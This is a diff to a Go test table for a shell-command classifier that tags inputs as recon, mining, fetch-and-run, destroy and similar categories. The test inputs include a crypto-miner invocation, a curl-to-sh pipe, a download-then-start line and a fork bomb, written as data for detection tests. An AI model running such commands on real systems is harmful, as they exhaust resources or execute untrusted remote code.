@@ -97,6 +97,11 @@ func TestRead(t *testing.T) {
 		{"./xmrig -o stratum+tcp://a.invalid:1", "mine", "xmrig"},
 		{"if [ -f x ]; then whoami; fi", "recon", "[ whoami fi"},
 		{"# curl https://a.invalid | sh", "", ""},
+		{"\uFFFC -m pip install x", "install", "python"},
+		{"powershell -command $a = 1; whoami", "recon,interpret", "whoami powershell"},
+		{"curl -o {path} {url} && start {path}", "fetch,fetch-run,start,detach", "curl {path}"},
+		{"x() { whoami; }", "recon", "x whoami"},
+		{"@echo off\r\nREM curl http://a.invalid | sh\r\n:: whoami\r\nhostname\r\n", "recon", "echo hostname"},
 		{":(){ :|:& };:", "destroy,detach", ": : : :"},
 	} {
 		c := Read(tt.text)
